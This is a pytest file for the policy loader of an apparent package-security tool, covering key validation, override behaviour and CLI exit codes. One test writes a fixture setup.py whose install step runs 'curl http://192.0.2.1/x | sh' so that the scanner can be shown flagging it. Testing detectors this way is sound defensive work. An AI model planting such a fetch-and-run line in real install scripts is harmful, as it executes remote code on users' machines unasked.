"""The typed policy: built once from data/policy.toml, checked, and used everywhere."""

from __future__ import annotations

import json
import re
import subprocess
import sys
import tomllib
from dataclasses import FrozenInstanceError
from pathlib import Path
from typing import Any

import pytest

from detector.policy import SHIPPED_POLICY, Policy, PolicyError, load_policy

REPO = Path(__file__).resolve().parents[2]
WARDEN = [sys.executable, "-m", "warden"]
CODE_DIRS = ("detector", "service", "warden")


def _leaves(table: dict[str, Any], where: str = "") -> list[tuple[str, str]]:
    """(dotted key, key name) of every value in a TOML table; arrays of tables included."""
    out = []
    for key, value in table.items():
        if isinstance(value, dict):
            out += _leaves(value, f"{where}{key}.")
        else:
            out.append((f"{where}{key}", key))
            if isinstance(value, list) and value and isinstance(value[0], dict):
                for item in value:
                    out += _leaves(item, f"{where}{key}[].")
    return out


def _sources() -> str:
    texts = []
    for folder in CODE_DIRS:
        for path in (REPO / folder).rglob("*.py"):
            if path != REPO / "detector" / "policy.py":
                texts.append(path.read_text(encoding="utf-8"))
    return "\n".join(texts)


def _write(tmp_path: Path, text: str, name: str = "policy.toml") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def test_every_key_of_the_shipped_policy_is_read_by_the_code() -> None:
    """Each key is read as an attribute of the typed policy somewhere outside its loader."""
    with open(SHIPPED_POLICY, "rb") as handle:
        shipped = tomllib.load(handle)
    source = _sources()
    unused = []
    for dotted, key in _leaves(shipped):
        attribute = "import_" if key == "import" else key
        if not re.search(rf"\.{attribute}\b", source):
            unused.append(dotted)
    assert unused == []


def test_the_shipped_policy_loads_once_into_frozen_typed_tables() -> None:
    policy = load_policy()
    assert isinstance(policy, Policy) and load_policy() is policy
    assert isinstance(policy.service.max_batch_events, int)
    assert isinstance(policy.service.group_window_ms, float)
    assert policy.stream.cohorts.windows[0].minutes > 0
    with pytest.raises(FrozenInstanceError):
        policy.names.flag_threshold = 0.1  # type: ignore[misc]


def test_nothing_but_the_policy_module_reads_the_policy_file() -> None:
    offenders = []
    for folder in (*CODE_DIRS, "scripts", "bench"):
        for path in (REPO / folder).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            if path.name != "policy.py" and re.search(r"policy\.toml\"|tomllib.*policy", text):
                offenders.append(str(path.relative_to(REPO)))
    assert offenders == []


@pytest.mark.parametrize(("text", "message"), [
    ("[names]\nflag_threshhold = 0.9\n", "unknown policy key names.flag_threshhold"),
    ("[stream.cohorts]\nwindowz = []\n", "unknown policy key stream.cohorts.windowz"),
    ("[nmaes]\nflag_threshold = 0.9\n", "unknown policy key nmaes"),
    ('[service]\ngroup_window_ms = "2"\n',
     "policy key service.group_window_ms: must be a number, not '2'"),
    ('[service]\nmax_batch_events = "500"\n',
     "policy key service.max_batch_events: must be an integer, not '500'"),
    ("[service]\nmax_batch_events = 0\n", "service.max_batch_events: must be >= 1, not 0"),
    ("[service]\nmax_batch_events = 5.0\n", "service.max_batch_events: must be an integer"),
    ("[service]\nhot_routes = true\n", "unknown policy key service.hot_routes"),
    ("[names]\nflag_threshold = 1.5\n", "names.flag_threshold: must be <= 1, not 1.5"),
    ("[names]\nflag_threshold = true\n", "names.flag_threshold: must be a number, not True"),
    ("[breaker]\ntrip_rules = []\n", "breaker.trip_rules: needs at least 1 entries"),
    ("[breaker]\ntrip_rules = [{ window_minutes = 60 }]\n",
     "breaker.trip_rules[0].flagged: is missing"),
    ("[stream]\nscan_code = \"sometimes\"\n", "stream.scan_code"),
    ("[code]\nmodel_version_mismatch = \"ignore\"\n", "code.model_version_mismatch"),
    ("[code.tiers]\nimport = -1\n", "code.tiers.import"),
    ("[stream.cohorts]\nwindows = [{ minutes = 60, min_count = \"6\" }]\n",
     "stream.cohorts.windows[0].min_count"),
    ("[breaker]\nauto_trip_minutes = inf\n", "breaker.auto_trip_minutes"),
    ("[stream]\nreview_threshold = 0.9\nblock_threshold = 0.8\n",
     "review_threshold exceeds block_threshold"),
    ("[names]\nflag_threshold = \n", "not valid TOML"),
    ("[names]\nflag_threshold = 0.9\n[names]\n", "not valid TOML"),
    ("names = 3\n", "policy key 'names' must be a table"),
])
def test_a_bad_override_is_one_line_naming_the_file_and_the_key(
        tmp_path: Path, text: str, message: str) -> None:
    path = _write(tmp_path, text)
    with pytest.raises(PolicyError) as caught:
        load_policy(path)
    error = str(caught.value)
    assert error.startswith(f"{path}: ") and message in error and "\n" not in error


def test_a_missing_policy_file_is_a_policy_error(tmp_path: Path) -> None:
    with pytest.raises(PolicyError, match="cannot read policy"):
        load_policy(tmp_path / "absent.toml")


def test_an_override_changes_only_its_keys(tmp_path: Path) -> None:
    path = _write(tmp_path, "[code.tiers]\nimport = 0.2\n\n[stream.cohorts]\nprior_days = 2\n")
    policy, shipped = load_policy(path), load_policy()
    assert policy.code.tiers.import_ == 0.2
    assert policy.stream.cohorts.prior_days == 2.0
    assert policy.code.tiers.install == shipped.code.tiers.install
    assert policy.breaker == shipped.breaker and policy.names == shipped.names
    assert policy.digest() != shipped.digest()


def _run(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*WARDEN, *args], capture_output=True, text=True, timeout=300,
                          cwd=REPO)


def test_check_name_policy_flag_changes_what_is_flagged(tmp_path: Path) -> None:
    # Recent attacks raise a name below the flag line (every name, at 1.0): off here, so
    # that only the line moves.
    lenient = _write(tmp_path, "[names]\nflag_threshold = 1.0\nattack_boost = 0.0\n")
    shipped = json.loads(_run("check-name", "reqeusts", "--json").stdout)
    relaxed = json.loads(_run("check-name", "reqeusts", "--json", "--policy",
                              str(lenient)).stdout)
    assert shipped["flagged"] and not relaxed["flagged"]
    assert relaxed["score"] == shipped["score"]


def test_scan_policy_flag_changes_the_verdict(tmp_path: Path) -> None:
    package = tmp_path / "pkg"
    package.mkdir()
    (package / "setup.py").write_text(
        "import os\nos.system('curl http://192.0.2.1/x | sh')\n"
        "from setuptools import setup\nsetup(name='x')\n", encoding="utf-8")
    blind = _write(tmp_path, "[code]\nflag_threshold = 1.0\nrule_blend = 1.0\n\n"
                             "[code.tiers]\ninstall = 0\n")
    shipped = json.loads(_run("scan", str(package), "--json").stdout)
    changed = json.loads(_run("scan", str(package), "--json", "--policy", str(blind)).stdout)
    assert shipped["flagged"] and not changed["flagged"]
    assert changed["score"] < shipped["score"]


def test_score_policy_flag_changes_the_decision(tmp_path: Path) -> None:
    event = {"id": "e1", "ts": "2025-01-01T00:00:00Z", "type": "account.created",
             "account": {"username": "xkqzvbtrpl"}}
    events = _write(tmp_path, json.dumps(event) + "\n", "events.jsonl")
    strict = _write(tmp_path, "[stream]\nreview_threshold = 0.05\n")
    shipped = json.loads(_run("score", str(events)).stdout.splitlines()[0])
    changed = json.loads(_run("score", str(events), "--policy", str(strict)).stdout
                         .splitlines()[0])
    assert shipped["decision"] == "allow" and changed["decision"] == "review"


@pytest.mark.parametrize("command", [["check-name", "x"], ["scan", "."], ["score", "-"],
                                     ["replay", "README.md"]])
def test_every_command_refuses_a_typo_in_its_policy_with_exit_2(
        tmp_path: Path, command: list[str]) -> None:
    typo = _write(tmp_path, "[stream]\nreview_treshold = 0.1\n")
    done = _run(*command, "--policy", str(typo))
    assert done.returncode == 2
    assert f"{typo}: unknown policy key stream.review_treshold" in done.stderr


def test_the_model_version_check_follows_the_policy_given(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`shipped_model` answers per policy, not once for whichever policy came first."""
    from detector.code import model

    if not model.models_path(model.ARTIFACT).is_file():
        pytest.skip("no shipped code model")
    refuse = load_policy(_write(tmp_path, "[code]\nmodel_version_mismatch = \"refuse\"\n"))
    monkeypatch.setattr(model, "FEATURES", "another-feature-layout")
    model._shipped_model.cache_clear()
    try:
        with pytest.warns(UserWarning, match="built for features"):
            assert model.shipped_model(load_policy()) is not None
        assert model.shipped_model(refuse) is None
    finally:
        model._shipped_model.cache_clear()
